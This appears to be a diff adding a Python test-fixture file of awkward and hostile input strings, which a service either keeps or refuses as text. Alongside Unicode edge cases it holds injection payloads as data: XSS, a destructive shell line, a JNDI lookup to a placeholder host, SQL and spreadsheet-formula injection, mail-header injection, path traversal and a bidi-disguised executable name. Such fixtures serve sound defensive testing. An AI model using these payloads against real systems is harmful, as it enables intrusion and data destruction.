@@ -1,0 +1,116 @@
+"""Texts that nobody should type. Written for this service."""
+
+from __future__ import annotations
+
+import unicodedata
+
+KEPT = {
+    # Said to somebody's interpreter.
+    "script": "<script>alert(1)</script>",
+    "closing tags": "</title></textarea></script><img src=x onerror=alert(1)>",
+    "attribute": "\" autofocus onfocus=alert(1) x='",
+    "comment and CDATA": "<!-- ]]> --> <![CDATA[ x ]]>",
+    "entities as typed": "&lt;b&gt; &amp;amp; &#x3c; &NotEqualTilde;",
+    "link": "javascript:alert(document.domain)//",
+    "jinja": "{{ 7 * 7 }}{% include 'x' %}{# y #}",
+    "python format": "{0.__class__.__mro__} {label} {limit:,} %(name)s %s %n",
+    "shell": "$(reboot) `id` ; rm -rf / | tee && true",
+    "lookup": "${jndi:ldap://x.invalid/a} ${env:HOME} #{7*7}",
+    "sql": "Robert'); DROP TABLE claims;-- \\' OR 1=1",
+    "partiql": "'] SET force='x' WHERE pk BETWEEN '' AND 'z",
+    "formula": '=HYPERLINK("http://x.invalid","click")',
+    "formula plus": "+1+cmd|' /C calc'!A0",
+    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula minus": "-2+3+cmd|' /C calc'!A0",
+    "mail header, encoded": "Day%0d%0aBcc: x@example.org",
+    "mail encoded word": "=?utf-8?q?=0D=0ABcc=3A_x=40example.org?=",
+    "mail encoded word, base64": "=?utf-8?B?RGVjaWRlIG5vdw==?= =?utf-8?B?IQ==?=",
+    "log line": '"} {"level":"ERROR","request":"0"',
+    "terminal": "\\x1b[31mred\\x1b[0m \\r\\n \\0",
+    "keys of ours": "S:CASE#kent#CLM-0000-0000 S:DELIVERY#x",
+    "json pointer": "/cost_lines/0/amount_pence ~0 ~1 #/$defs",
+    "path": "../../etc/passwd ..\\..\\boot.ini C:\\con\\aux",
+    # Words that programs take for something else.
+    "null": "null",
+    "not a number": "NaN",
+    "true": "true",
+    "number": "1e309",
+    "hex": "0x7f",
+    "prototype": "__proto__",
+    "a line of quotes": "'\"`´‘’“”«»„‚",
+    # Writing of people.
+    "arabic": "يوم الابتكار في كنت ٢٠٢٧",
+    "hebrew with latin": "יום חדשנות Kent 2027",
+    "hindi": "नवाचार दिवस क्षत्रिय",
+    "thai": "วันนวัตกรรมที่ปั๋ม",
+    "japanese": "革新の日 ｶﾅ ㌔",
+    "korean": "혁신의 날",
+    "welsh": "Diwrnod arloesi Dŵr a Thŷ",
+    "turkish": "İstanbul ığdır",
+    "german": "Straßenfest ẞ",
+    "ligatures": "ﬁnancial oﬃce ǆ",
+    "roman numerals and math": "Ⅻ 𝕴𝖓𝖓𝖔 𝒅𝒂𝒚 ½ ²",
+    "composed": "Caf\u00e9 \u00c5ngstr\u00f6m",
+    "decomposed": "Cafe\u0301 A\u030angstro\u0308m",
+    "compatibility": "\u212bngstr\u00f6m \u2126 \u212a",
+    "composition excluded": "\u0958 \u2adc \ufb1d",
+    "marks out of order": "a\u0301\u0316 q\u0323\u0307 q\u0307\u0323",
+    "thirty marks": "z" + "\u0300\u0316" * 15,
+    "jamo": "\u1112\u1167\u11a8\u1109\u1175\u11ab",
+    # What is small, wide, or made of several.
+    "joined emoji": "👩🏽‍🚒 👨‍👩‍👧‍👦 🏳️‍🌈 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
+    "flags and keycaps": "🇬🇧🇬🇧🇬 1️⃣ #️⃣",
+    "outside the first plane": "𠜎𠜱 𝄞 😀",
+    "zero width within": "in\u200bno\u200cva\u200dtion\u2060 d\ufeffay",
+    "soft hyphens": "inno\u00advation\u00adday",
+    "spaces of all kinds": "a\u00a0b\u2003c\u202fd\u3000e",
+    "invisible operators": "f\u2061(x)\u2062y\u2063z",
+    "variation selectors": "a\ufe00 b\ufe0f c\U000e0100",
+    "tags": "day\U000e0001\U000e0041\U000e007f",
+    "long word": "W" * 150,
+    "long word of marks": "e\u0301" * 150,
+    "long word, wide": "𒐫" * 150,
+    "only punctuation": "!?.,;:",
+    "one letter": "x",
+    "spaces around": "  day  ",
+    "replacement character": "d\ufffday",
+}
+"""Ugly or harmless, but text: taken, and shown as it was typed (in NFC)."""
+
+REFUSED = {
+    "nothing": "",
+    "spaces": "     ",
+    "only invisible": "\u200b\u200c\u2060\ufeff",
+    "only soft hyphens": "\u00ad\u00ad",
+    "fillers": "\u3164\uffa0\u115f",
+    "null character": "a\x00b",
+    "tab": "a\tb",
+    "line feed": "Day\nBcc: x@example.org",
+    "carriage return": "Day\rBcc: x@example.org",
+    "both": "Day\r\nBcc: x@example.org\r\n\r\nHello",
+    "escape": "\x1b[2J\x1b[31mred",
+    "bell": "a\x07",
+    "backspace": "safe\x08\x08\x08\x08evil",
+    "delete": "a\x7f",
+    "c1": "a\x85b\x9b31m",
+    "vertical": "a\x0b\x0cb",
+    "line separator": "a\u2028b",
+    "paragraph separator": "a\u2029b",
+    "override": "\u202egnp.exe",
+    "embedding": "a\u202ab\u202cc\u202bd\u202c",
+    "isolates": "a\u2066b\u2069c\u2067d\u2068e",
+    "marks": "a\u200eb\u200fc\u061cd",
+    "private": "a\ue000 \U000f0000 \U0010fffd",
+    "noncharacter": "a\ufffe \uffff \ufdd0 \U0001ffff",
+    "unassigned": "a\u0378 \U000e0fff",
+    "too long": "x" * 151,
+    "too long, wide": "😀" * 151,
+    "flood of marks": "Z" + "\u0351\u0316" * 60,
+    "flood on flood": "".join(letter + "\u0334\u0301" * 18 for letter in "day"),
+}
+"""Not shown as it is stored, or not seen, or no line of text: refused, and nothing is stored."""
+
+
+def composed(text: str) -> str:
+    """As it is stored."""
+    return unicodedata.normalize("NFC", text)
